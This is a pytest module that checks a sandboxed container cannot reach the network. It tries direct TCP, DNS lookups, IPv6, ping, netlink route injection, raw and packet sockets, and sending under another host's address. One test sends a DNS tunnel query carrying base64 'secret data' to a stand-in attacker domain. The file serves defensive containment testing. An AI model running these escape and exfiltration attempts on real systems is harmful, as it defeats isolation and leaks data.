"""Attempts to reach the Internet: by address, name, IPv6, DNS, ICMP, and packets that a user may not send."""

from urllib.parse import urlsplit

import pytest

from infra.settings import layout
from infra.settings.site import Site
from tests.server.escapes.attack import bring, record
from tests.server.escapes.conftest import HUB, NETWORK
from tests.server.machine import Machine
from tests.smoke.session import Session

FAR_AWAY = (("1.1.1.1", 443), ("9.9.9.9", 443), ("8.8.8.8", 53))
FAR_AWAY_6 = ("2606:4700:4700::1111", "2620:fe::fe")
NO_WAY = "internal network without a route; nftables drops forwarded packets"


@pytest.fixture(scope="module", autouse=True)
def _armed(attacker: Session) -> None:
    bring(attacker, "network")
    bring(attacker, "calls")


def mirror(site: Site, server: Machine) -> tuple[str, str, int]:
    """Return the name, address and port of the package mirror, which the server itself reaches."""
    url = urlsplit(site.packages.proxy or site.packages.debian)
    port = url.port or (443 if url.scheme == "https" else 80)
    name = str(url.hostname)
    address = server.succeed(f"getent ahostsv4 {name} | head -n 1").split()[0]
    assert server.reads_at(address, port), "the server does not reach its own mirror"
    return name, address, port


def test_the_internet_has_no_address(
    attacker: Session, site: Site, server: Machine, image: str
) -> None:
    _, address, port = mirror(site, server)
    assert attacker.reach(*HUB) == "open"
    answers = {attacker.reach(host, port) for host, port in (*FAR_AWAY, (address, port))}
    assert "open" not in answers
    record(
        "the Internet by address",
        image=image,
        tried="TCP to 3 public servers and to the mirror that the server reaches",
        answer=", ".join(sorted(answers)),
        stopped_by=NO_WAY,
    )


def test_a_route_out_cannot_be_added(attacker: Session) -> None:
    """RTM_NEWROUTE (24) for a default route fails; RTM_GETROUTE (26) works, which proves that the probe does."""
    asked = attacker.value("netlink(26, 0x301, struct.pack('=B', 2) + bytes(11))")
    assert asked == "ok"
    route = f"struct.pack('=8BI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack('=HH4s', 8, 5, socket.inet_aton('{HUB[0]}'))"
    answer = attacker.value(f"netlink(24, 0x605, {route})")
    assert answer == "EPERM"
    record(
        "a default route of one's own",
        tried="netlink RTM_NEWROUTE through the bridge",
        answer=answer,
        stopped_by="no CAP_NET_ADMIN",
    )


def test_the_internet_has_no_name(
    attacker: Session, site: Site, server: Machine, image: str
) -> None:
    name, _, _ = mirror(site, server)
    assert attacker.look_up("localhost") != "no address"
    answers = {attacker.look_up(one) for one in (name, "example.org", "www.insee.fr")}
    assert answers == {"no address"}
    record(
        "the Internet by name",
        image=image,
        tried="getaddrinfo of the mirror (the server resolves it) and of 2 public names",
        answer="no address",
        stopped_by="Docker's resolver forwards nothing on an internal network",
    )


def test_dns_carries_nothing_out(
    attacker: Session, site: Site, server: Machine, addresses: dict[str, str]
) -> None:
    """Docker's resolver answers for the session's own name, and for no name outside the server."""
    own = attacker.value("socket.gethostname()")
    assert attacker.value(f"dns({own!r}, '127.0.0.11')") == "answered"
    name, _, _ = mirror(site, server)
    upstream = server.succeed("awk '/^nameserver/ { print $2; exit }' /etc/resolv.conf")
    tunnel = "c2VjcmV0IGRhdGE.attacker.example.org"
    answers = {}
    for resolver in ("127.0.0.11", *addresses.values(), upstream, "9.9.9.9"):
        for tcp in (False, True):
            asked = [
                f"dns({one!r}, {resolver!r}, {kind}, {tcp})"
                for one, kind in ((name, 1), (tunnel, 16))
            ]
            for question in asked if resolver == "127.0.0.11" else asked[:1]:
                answers[question] = attacker.value(question)
    assert "answered" not in answers.values(), answers
    record(
        "DNS: a tunnel",
        tried=f"{len(answers)} questions, UDP and TCP: Docker's resolver, the server's addresses, its upstream, 9.9.9.9",
        answer=", ".join(sorted(set(answers.values()))),
        stopped_by="internal network; nftables input",
    )


def test_ipv6_leads_nowhere(attacker: Session, server: Machine) -> None:
    attacker.run(
        "six = socket.create_server(('::1', 0), family=socket.AF_INET6); six_port = six.getsockname()[1]"
    )
    assert attacker.value("reach6('::1', six_port)") == "open"
    shown = server.succeed("ip -6 -oneline address show | awk '{ print $2, $4 }'")
    hosts = [line.split()[1].partition("/")[0] for line in shown.splitlines() if " ::1" not in line]
    places = [
        (f"{host}%eth0" if host.startswith("fe80") else host, port)
        for host in hosts
        for port in (22, 443, layout.SESSIONS_API_PORT)
    ]
    places += [
        ("fe80::1%eth0", layout.SESSIONS_API_PORT),
        ("ff02::1%eth0", layout.SESSIONS_API_PORT),
        ("::ffff:1.1.1.1", 443),
    ]
    places += [(host, 443) for host in FAR_AWAY_6]
    answers = {place: attacker.value(f"reach6{place!r}") for place in places}
    assert "open" not in answers.values(), answers
    record(
        "IPv6",
        tried=f"{len(places)}: the server's {len(hosts)} addresses, link-local ones, all nodes, mapped IPv4, 2 public servers",
        answer=", ".join(sorted(set(answers.values()))),
        stopped_by="no IPv6 in the session",
    )


def test_ping_is_not_answered(attacker: Session, addresses: dict[str, str]) -> None:
    assert attacker.value("ping('127.0.0.1')") == "answered"
    answers = {host: attacker.value(f"ping({host!r})") for host in (*addresses.values(), "1.1.1.1")}
    assert "answered" not in answers.values(), answers
    record(
        "ICMP",
        tried="echo requests to the server's 3 addresses and to 1.1.1.1",
        answer=", ".join(sorted(set(answers.values()))),
        stopped_by="nftables input; no route",
    )


def test_packets_cannot_be_forged(attacker: Session, image: str) -> None:
    """The sockets are raw IP, Ethernet frames (ARP), VSOCK, and a few protocols with known vulnerabilities."""
    assert attacker.value("open_socket(socket.AF_INET, socket.SOCK_DGRAM)") == "ok"
    kinds = {
        "raw IP": "socket.AF_INET, socket.SOCK_RAW, 1",
        "Ethernet": "socket.AF_PACKET, socket.SOCK_RAW, 0x0300",
        "Ethernet, cooked": "socket.AF_PACKET, socket.SOCK_DGRAM, 0x0608",
        "VSOCK": "40, socket.SOCK_STREAM",
        "Bluetooth": "31, socket.SOCK_RAW, 1",
        "CAN": "29, socket.SOCK_RAW, 1",
        "kernel crypto": "38, socket.SOCK_SEQPACKET",
        "XDP": "44, socket.SOCK_RAW",
        "audit": "socket.AF_NETLINK, socket.SOCK_RAW, 9",
        "RDS": "21, socket.SOCK_SEQPACKET",
    }
    answers = {kind: attacker.value(f"open_socket({how})") for kind, how in kinds.items()}
    assert "ok" not in answers.values(), answers
    record(
        "forged packets (ARP, raw IP)",
        image=image,
        tried=", ".join(kinds),
        answer=", ".join(sorted(set(answers.values()))),
        stopped_by="no CAP_NET_RAW; Docker's seccomp filter",
    )


def test_no_packet_leaves_under_anothers_address(attacker: Session) -> None:
    own = attacker.value("own_address()")
    assert attacker.value(f"speak_as({own!r}, '{HUB[0]}', 9)") == "sent"
    answers = {
        attacker.value(f"speak_as({other!r}, '{HUB[0]}', {HUB[1]})")
        for other in (HUB[0], str(NETWORK.addresses[99]), "127.0.0.2", "8.8.8.8")
        if other != own
    }
    assert "sent" not in answers, answers
    record(
        "another's source address",
        tried="IP_FREEBIND to 4 addresses, the hub's among them",
        answer=", ".join(sorted(answers)),
        stopped_by="no CAP_NET_ADMIN (IP_TRANSPARENT); source routing of the kernel",
    )
